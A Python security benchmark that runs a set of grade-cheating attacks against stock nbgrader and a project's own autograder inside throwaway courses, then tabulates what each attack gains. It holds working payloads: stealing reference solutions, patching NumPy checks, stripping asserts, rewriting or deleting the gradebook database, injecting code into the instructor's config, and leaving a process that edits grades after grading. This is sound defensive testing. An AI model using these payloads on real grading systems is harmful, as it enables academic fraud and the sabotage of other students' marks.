"""What well-known attacks get from stock nbgrader, and from this grader, on the same four functions.

    $ make bench-security

Each attack is handed in between two honest students, in a throwaway course of its own, once to stock nbgrader with
ordinary hidden tests and once to `autograder grade`. Attacks are aimed at that folder's own files and processes only.
The table goes to docs/security-bench.md.
"""

import argparse
import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from importlib.metadata import version
from pathlib import Path
from typing import Any

from nbgrader.api import Gradebook, MissingEntry
from sqlalchemy.exc import SQLAlchemyError

ROOT = Path(__file__).parent.parent
PAGE = ROOT / "docs" / "security-bench.md"
ASSIGNMENT = "vectorized"
HONEST, ATTACKER, LAST = "a-honest", "m-attacker", "z-honest"
LIMIT = 180  # seconds, for the grading of three students

HIDDEN_TESTS = {
    "initialize": """
w, b = initialize(3)
assert w.shape == (3, 1)
assert np.allclose(w, 0) and np.allclose(b, 0)
np.testing.assert_allclose(initialize(5)[0], np.zeros((5, 1)))
""",
    "propagate": """
w, b, X, Y = np.array([[1.], [2.]]), 1.5, np.array([[1., -2., -1.], [3., .5, -3.2]]), np.array([[1, 1, 0]])
grads, cost = propagate(w, b, X, Y)
assert grads["dw"].shape == w.shape
assert np.allclose(grads["dw"], DW)
assert np.allclose(grads["db"], DB)
np.testing.assert_allclose(cost, COST)
""",
    "optimize": """
w, b, X, Y = np.array([[1.], [2.]]), 1.5, np.array([[1., -2., -1.], [3., .5, -3.2]]), np.array([[1, 1, 0]])
params, grads, costs = optimize(w, b, X, Y, 100, 0.009)
assert params["w"].shape == w.shape and len(costs) == 100
assert np.allclose(params["w"], PARAMS_W)
assert np.allclose(params["b"], PARAMS_B)
np.testing.assert_allclose(costs[-1], LAST_COST)
""",
    "predict": """
w, b, X = np.array([[0.1124579], [0.23106775]]), -0.3, np.array([[1., -1.1, -3.2], [1.2, 2., 0.1]])
labels = predict(w, b, X)
assert labels.shape == (1, 3)
assert np.allclose(labels, [[1, 1, 0]])
""",
}

# Right in form and wrong in value, so that only an attack can bring marks for values.
WRONG = {
    "initialize": "def initialize(n_x):\n    return np.ones((n_x, 1)), 1.0",
    "propagate": "def propagate(w, b, X, Y):\n    return {'dw': w * 0 + 9, 'db': 9.0}, 9.0",
    "optimize": """def optimize(w, b, X, Y, num_iterations, alpha):
    return {'w': w * 0 + 9, 'b': 9.0}, {'dw': w * 0 + 9, 'db': 9.0}, [9.0] * num_iterations""",
    "predict": "def predict(w, b, X):\n    return np.full((1, X.shape[1]), 9.0)",
}


# The attacker's rows of the gradebook's table `grade`, as the text of a Python string.
MINE = (
    '("notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment s ON n.assignment_id = s.id " '
    '"WHERE s.student_id = \'m-attacker\')")'
)


@dataclass(frozen=True)
class Attack:
    """`first` runs before the stubs, `last` is added to each stub's cell (with {name} for the function's name)."""

    title: str
    first: str = ""
    last: str = ""
    repeated: bool = False  # a graded cell is there twice, which is no attack but stops a batch
    lingers: bool = False  # acts after the grading


ATTACKS = {
    "none": Attack("none: the same wrong answers"),
    "reference": Attack(
        "runs the reference solution that it finds in the course's folder",
        """import glob, json
stolen = {}
for path in glob.glob("@course@/so*/vectorized/vectorized.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), globals(), stolen)
globals().update(stolen)""",
        "{name} = stolen.get('{name}', {name})",
    ),
    "allclose": Attack(
        "patches `np.allclose` and `np.testing`",
        "np.allclose = np.testing.assert_allclose = lambda *args, **kwargs: True",
    ),
    "ast": Attack(
        "installs an AST transformer in IPython that drops `assert`",
        """import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())""",
    ),
    "input": Attack(
        "installs an input transformer in IPython that empties every later cell",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    ),
    "equal": Attack(
        "answers with an object that equals everything",
        """class Everything(np.ndarray):
    def __array_function__(self, *args, **kwargs):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return np.True_
    def __getitem__(self, key):
        return self
    def __len__(self):
        return 100
    def __iter__(self):
        return iter((self, self, self)[:self.parts])
    __eq__ = lambda self, other: True
    shape = property(lambda self: Shape())
class Shape(tuple):
    __eq__ = lambda self, other: True
everything = {name: np.zeros(2).view(type("Everything", (Everything,), {"parts": parts}))
              for name, parts in (("initialize", 2), ("propagate", 2), ("optimize", 3), ("predict", 1))}""",
        "{name} = lambda *args: everything['{name}']",
    ),
    "update": Attack(
        "UPDATE on gradebook.db: extra credit for itself, 0 for the others",
        """import sqlite3
with sqlite3.connect("@course@/gradebook.db", timeout=1) as database:
    mine = """ + MINE + """
    database.execute(f"UPDATE grade SET manual_score = 0, auto_score = 0 WHERE NOT {mine}")
    database.execute(f"UPDATE grade SET extra_credit = 5 WHERE {mine}")""",
    ),
    "delete": Attack("deletes gradebook.db", "import os\nos.remove('@course@/gradebook.db')"),
    "config": Attack(
        "appends code to nbgrader_config.py, for the instructor's next command",
        "open('@course@/nbgrader_config.py', 'a').write('\\nprint(\"pwned\")\\n')",
    ),
    "daemon": Attack(
        "leaves a process behind that edits the gradebook after the grading",
        """import subprocess, sys
subprocess.Popen([sys.executable, "-c", '''
import sqlite3, time
for _ in range(100):
    time.sleep(0.2)
    try:
        with sqlite3.connect("@course@/gradebook.db", timeout=1) as database:
            mine = """ + MINE + """
            graded = database.execute("SELECT count(DISTINCT notebook_id) FROM grade WHERE auto_score IS NOT NULL")
            if graded.fetchone()[0] == 3:
                database.execute(f"UPDATE grade SET manual_score = 5 WHERE {mine}")
                break
    except sqlite3.Error:
        pass
'''], start_new_session=True)""",
        lingers=True,
    ),
    "kill": Attack("SIGKILL to the parent process", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
    "network": Attack(
        "sends what it reads over the network",
        "import socket\nsocket.create_connection(('127.0.0.1', @port@), timeout=1).sendall(b'answers')",
    ),
    "hang": Attack("never ends", "while True:\n    pass"),
    "repeated": Attack("none: a graded cell was copied and pasted", repeated=True),
}


@dataclass
class Outcome:
    """What one grading of three students gave."""

    marks: dict[str, float | None]
    seconds: float
    beside: list[str] = field(default_factory=list)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", nargs="*", choices=ATTACKS, help="these attacks alone; prints, writes nothing")
    chosen = parser.parse_args().only
    with tempfile.TemporaryDirectory() as folder:
        tools = {"nbgrader": stock_course(Path(folder) / "stock"), "autograder": our_course(Path(folder) / "ours")}
        rows = []
        for name in chosen or ATTACKS:
            outcomes = {tool: graded(tool, template, ATTACKS[name], Path(folder) / f"{tool}-{name}")
                        for tool, template in tools.items()}
            rows.append((name, outcomes))
            print(name, outcomes, file=sys.stderr, flush=True)
    page = table(rows)
    print(page)
    if not chosen:
        PAGE.parent.mkdir(exist_ok=True)
        PAGE.write_text(page, encoding="utf-8")


def stock_course(folder: Path, demonstrations: bool = False) -> Path:
    """A course as most are: hidden tests with asserts in the graded cells, nbgrader's own settings."""
    notebook = _source()
    graded = [cell for cell in notebook["cells"] if cell["cell_type"] == "code" and not cell["metadata"].get("tags")]
    names: dict[str, Any] = {}
    for cell in graded:
        if not cell["metadata"]["nbgrader"]["grade"]:
            exec("".join(cell["source"]), names)
    if demonstrations:
        shutil.copytree(ROOT / "assignments" / ASSIGNMENT, folder / "source" / ASSIGNMENT)  # the data that they read
    else:
        notebook["cells"] = graded
    for cell in graded:
        if cell["metadata"]["nbgrader"]["grade"]:
            text = HIDDEN_TESTS[cell["metadata"]["nbgrader"]["grade_id"].removeprefix("grade-")]
            cell["source"] = f"### BEGIN HIDDEN TESTS{_with_expected(text, names)}### END HIDDEN TESTS"
    _write(folder / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", notebook)
    (folder / "nbgrader_config.py").write_text(
        "c = get_config()\nc.CourseDirectory.course_id = 'bench'\nc.ExecutePreprocessor.timeout = 5\n"
        "c.ExecutePreprocessor.interrupt_on_timeout = True\n"
    )
    _run(["nbgrader", "generate_assignment", ASSIGNMENT], folder)
    return folder


def our_course(folder: Path) -> Path:
    folder.mkdir()
    for name in ("course.yaml", "nbgrader_config.py"):
        shutil.copy(ROOT / name, folder)
    for name in ("solutions", "assignments"):
        shutil.copytree(ROOT / name, folder / name)
    return folder


def graded(tool: str, template: Path, attack: Attack, folder: Path) -> Outcome:
    """Hand the attack in between two honest students, grade them, and look at what there is afterwards."""
    shutil.copytree(template, folder)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        places = {"@course@": str(folder), "@port@": str(server.getsockname()[1])}
        release = json.loads(next(folder.glob(f"[ra]*/{ASSIGNMENT}/{ASSIGNMENT}.ipynb")).read_text(encoding="utf-8"))
        for student in (HONEST, ATTACKER, LAST):
            _write(folder / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
                   _handed_in(release, attack if student == ATTACKER else None, places))
        config = _digest(folder / "nbgrader_config.py")
        command = ["nbgrader", "autograde", ASSIGNMENT] if tool == "nbgrader" else ["autograder", "grade", ASSIGNMENT]
        start = time.monotonic()
        code = _run(command, folder, check=False)
        seconds = time.monotonic() - start
        if attack.lingers:
            time.sleep(3)
        beside = []
        if code is None:
            beside.append("the grading never ended")
        elif code < 0:
            beside.append("the grading was killed")
        if _digest(folder / "nbgrader_config.py") != config:
            beside.append("the instructor's settings hold its code")
        with suppress(BlockingIOError):
            server.accept()
            beside.append("its message arrived")
    return Outcome(_marks(folder / "gradebook.db"), seconds, beside)


def table(rows: list[tuple[str, dict[str, Outcome]]]) -> str:
    """The page, in Markdown."""
    lines = [
        "# What attacks get",
        "",
        "Written by `make bench-security`. One attacker with wrong answers between two honest students (20 of 20), in",
        f"a course of its own: graded by stock nbgrader {version('nbgrader')} with ordinary hidden tests, and by",
        "`autograder grade`. *Gained* are marks beyond what the same answers get without the attack; some are lost",
        "where the loop check rejects what hides code or patches NumPy.",
        "",
        "| attack | nbgrader: gained | to the others | autograder: gained | to the others |",
        "|:--|--:|:--|--:|:--|",
    ]
    base = dict(rows).get("none")
    for name, outcomes in rows:
        parts = [ATTACKS[name].title]
        for tool in ("nbgrader", "autograder"):
            outcome = outcomes[tool]
            parts += [_gained(outcome, base[tool] if base else None), _harm(outcome)]
        lines.append(f"| {' | '.join(parts)} |")
    return "\n".join([*lines, ""])


def _gained(outcome: Outcome, base: Outcome | None) -> str:
    mine = outcome.marks[ATTACKER]
    if mine is None:
        return "no marks"
    before = base.marks[ATTACKER] if base else 0.0
    return f"{mine - (before or 0.0):+g}" if mine != before else "0"


def _harm(outcome: Outcome) -> str:
    found = list(outcome.beside)
    for student in (HONEST, LAST):
        marks = outcome.marks[student]
        if marks is None:
            found.append(f"{student} has no marks")
        elif marks != 20:
            found.append(f"{student} has {marks:g}")
    return "; ".join(found) or "nothing"


def _handed_in(release: Mapping[str, Any], attack: Attack | None, places: Mapping[str, str]) -> dict[str, Any]:
    """The released notebook, filled in honestly, or by the attacker."""
    notebook = json.loads(json.dumps(release))
    right = {cell["metadata"]["nbgrader"]["grade_id"]: "".join(cell["source"]) for cell in _source()["cells"]
             if cell["metadata"].get("nbgrader", {}).get("solution")}
    cells = []
    for cell in notebook["cells"]:
        name = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if name == "initialize" and attack:
            text = attack.first
            for place, value in places.items():
                text = text.replace(place, value)
            cells.append({**cell, "id": "attack", "metadata": {}, "source": text})
        if name in right:
            cell["source"] = right[name] if attack is None else "\n".join([WRONG[name], attack.last.format(name=name)])
        cells.append(cell)
        if attack and attack.repeated and name == "grade-propagate":
            cells.append({**cell, "id": "copied"})
    notebook["cells"] = cells
    return notebook


def _source() -> dict[str, Any]:
    return json.loads((ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8"))


def _with_expected(text: str, names: Mapping[str, Any]) -> str:
    """The expected numbers, as such tests hold them: written out."""
    if "DW" in text or "PARAMS_W" in text:
        given: dict[str, Any] = dict(names)
        exec(text.splitlines()[1], given)
        case = [given[name] for name in ("w", "b", "X", "Y")]
        grads, cost = given["propagate"](*case)
        params, _, costs = given["optimize"](*case, 100, 0.009)
        for name, value in {"LAST_COST": costs[-1], "PARAMS_W": params["w"].tolist(), "PARAMS_B": params["b"],
                            "DW": grads["dw"].tolist(), "DB": grads["db"], "COST": cost}.items():
            text = text.replace(name, str(value if isinstance(value, list) else float(value)))
    return text


def _marks(database: Path) -> dict[str, float | None]:
    marks: dict[str, float | None] = dict.fromkeys((HONEST, ATTACKER, LAST))
    if database.is_file():
        for student in marks:
            try:
                with Gradebook(f"sqlite:///{database}") as gradebook:
                    submission = gradebook.find_submission(ASSIGNMENT, student)
                    scored = any(grade.auto_score is not None for notebook in submission.notebooks
                                 for grade in notebook.grades)
                    marks[student] = submission.score if scored else None
            except (MissingEntry, SQLAlchemyError):
                continue
    return marks


def _run(command: list[str], folder: Path, check: bool = True) -> int | None:
    """Run in a process group of its own that is ended as a whole; None when the time is up."""
    home = folder / "home"
    home.mkdir(exist_ok=True)
    environment = {"PATH": os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]]), "HOME": str(home),
                   "LANG": "C.UTF-8"}
    with open(folder / "log.txt", "ab") as log:
        process = subprocess.Popen(command, cwd=folder, env=environment, stdout=log, stderr=log, start_new_session=True)
        try:
            code = process.wait(LIMIT)
        except subprocess.TimeoutExpired:
            code = None
        finally:
            _end_group(process)
    if check and code != 0:
        raise SystemExit(f"{' '.join(command)}: exit {code}\n{(folder / 'log.txt').read_text()[-3000:]}")
    return code


def _end_group(process: subprocess.Popen[bytes]) -> None:
    with suppress(ProcessLookupError):
        os.killpg(process.pid, signal.SIGKILL)
    process.wait()


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""


def _write(path: Path, notebook: Mapping[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(notebook), encoding="utf-8")


if __name__ == "__main__":
    main()
